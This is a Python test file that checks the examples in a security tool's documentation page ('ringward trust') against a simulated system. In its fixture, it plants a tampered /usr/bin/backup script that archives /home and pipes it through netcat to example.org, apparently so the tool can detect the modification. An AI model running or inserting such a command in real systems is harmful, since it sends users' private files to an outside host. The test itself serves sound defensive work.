"""docs/trust.md: its commands are run, in its order, on the system that it describes, and must print what it shows."""

from __future__ import annotations

import difflib
import re
import shlex
from pathlib import Path

import pytest

from ringward.cli import trust
from ringward.trust.rule_fields import CONDITIONS
from ringward.trust.rule_files import DIRECTORY, parse
from ringward.trust.rules import Operation
from ringward.trust.store import PATH
from tests.cli.trust_lab import SURVEYS, WITHOUT_OUTPUT
from tests.test_questions import fits
from tests.trust.system import System

PAGE = Path(__file__).parents[1] / "docs/trust.md"


def system(folder: Path) -> System:
    """Make the system that the page describes."""
    found = System(folder / "root")
    found.package("hello", {"/usr/bin/hello": b"#!/bin/sh\necho hello\n"}, version="2.10-3")
    found.package("backup", {"/usr/bin/backup": b"#!/bin/sh\ntar c /home\n"}, version="2.0")
    found.write("/usr/bin/backup", b"#!/bin/sh\ntar c /home | nc example.org 9\n")
    found.write("/usr/local/bin/report", b"#!/bin/sh\necho report\n")
    module = found.module(folder, "dummy")
    found.package("linux-image-6.1", {module: found.path(module).read_bytes()}, version="6.1.4-1")
    found.path("/etc/dpkg/dpkg.cfg.d").mkdir(parents=True)
    return found


def examples() -> list[tuple[str, str]]:
    """Return the commands of the page, and what it shows of each one's answer."""
    found = []
    for block in re.findall(r"^    # (ringward .*\n(?:(?:    (?!# ringward ).*)?\n)*)", PAGE.read_text(), re.MULTILINE):
        command, _, shown = block.partition("\n")
        found.append((command, re.sub("^    ", "", shown, flags=re.MULTILINE).rstrip("\n")))
    return found


def arguments(command: str, root: Path) -> list[str]:
    """Return the words of an example for this system, its database and its rules."""
    tool, name, action, *words = shlex.split(command)
    assert (tool, name) == ("ringward", "trust")
    more = [] if action == "rule" else ["--database", str(root.parent / "trust.db")]
    if action in SURVEYS | {"hook"}:
        more += ["--sysroot", str(root)]
    if action not in WITHOUT_OUTPUT | {"rule"}:
        more += ["--output", "text"]
    if action == "rule":
        more = ["--rules", str(root.parent / "rules.d")]
        words += ["--database", str(root.parent / "trust.db"), "--output", "text"] if words[0] == "list" else []
    return [action, *more, *[word.replace("/srv/", f"{root.parent}/") for word in words]]


def test_the_examples(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "110")
    root = system(tmp_path).root
    wrong = []
    for command, shown in examples():
        status = trust.main(arguments(command, root))
        out, err = capsys.readouterr()
        printed = (out + err).rstrip("\n")
        for ours, theirs in (("trust.db", PATH), ("rules.d", DIRECTORY), ("", "/srv/")):
            printed = printed.replace(f"{tmp_path}/{ours}", theirs)
        assert status == (1 if " verify" in command else 0), printed
        if not fits(shown, printed):
            wrong.append("\n".join([command, *difflib.ndiff(shown.splitlines(), printed.splitlines())]))
    assert not wrong, "\n\n".join(wrong)


def test_every_action_is_on_the_page() -> None:
    for action in trust.ACTIONS:
        assert f"ringward trust {action}" in PAGE.read_text(), action


def test_the_rules_on_the_page_are_rules() -> None:
    tables = re.findall(r"^    \[\[rule\]\]\n(?:    \w.*\n)+", PAGE.read_text(), re.MULTILINE)
    rules = parse(re.sub("^    ", "", "".join(tables), flags=re.MULTILINE), "page")
    assert {rule.id for rule in rules} >= {"vendor", "no-usb-storage-for-users", "no-debug-parameters"}


def test_every_condition_is_on_the_page() -> None:
    rows = dict(re.findall(r"^\| `(\w+)` \| ([a-z, ]+) \|", PAGE.read_text(), re.MULTILINE))
    assert set(rows) == CONDITIONS[Operation.MODULES]
    for name, on in rows.items():
        assert set(on.split(", ")) == {each.value for each in Operation if name in CONDITIONS[each]}, name
